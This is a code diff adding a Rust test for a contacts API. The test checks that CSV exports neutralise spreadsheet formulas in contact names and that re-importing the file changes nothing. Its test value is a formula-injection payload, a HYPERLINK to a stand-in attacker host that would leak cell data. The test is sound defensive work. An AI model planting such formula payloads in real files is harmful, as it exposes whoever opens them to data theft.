@@ -160,6 +160,43 @@ async fn an_export_reads_back_identically_and_a_dry_run_writes_nothing() {
     }
 }
 
+/// Contact names a customer or a teammate chose can be formulas: the export keeps a spreadsheet
+/// from running them (a `'` before the cell) and reading the file back changes nothing.
+#[tokio::test]
+async fn an_export_with_formula_names_opens_as_text_and_reimports_unchanged() {
+    for app in TestApp::all().await {
+        let e = app.engine();
+        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        let made = app
+            .post(
+                "/api/v1/contacts",
+                json!({"name": name, "phone": "+33612345678", "fields": {"handle": "@ana", "balance": -3}}),
+            )
+            .await;
+        assert_eq!(made.status, StatusCode::CREATED, "{e}: {:?}", made.body);
+        let before = app.get(&format!("/api/v1/contacts/{}", made.body["id"])).await.body;
+        let file = export(&app).await;
+        let mut reader = csv::Reader::from_reader(file.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{e}: a live formula cell {cell:?} in {file}"
+                );
+            }
+        }
+        assert!(file.contains("'=HYPERLINK("), "{e}: {file}");
+        assert!(file.contains("'+33612345678"), "{e}: {file}");
+
+        let back = import(&app, file.as_bytes(), json!({"identifier": "id", "mode": "update"}), false).await;
+        assert_eq!((back["updated"].as_i64(), back["unchanged"].as_i64()), (Some(0), Some(1)), "{e}: {back:?}");
+        let after = app.get(&format!("/api/v1/contacts/{}", made.body["id"])).await.body;
+        assert_eq!(after, before, "{e}");
+        assert_eq!(after["name"], name);
+        assert_eq!(export(&app).await, file, "{e}");
+    }
+}
+
 #[tokio::test]
 async fn bad_imports_are_refused_clearly() {
     for app in TestApp::all().await {
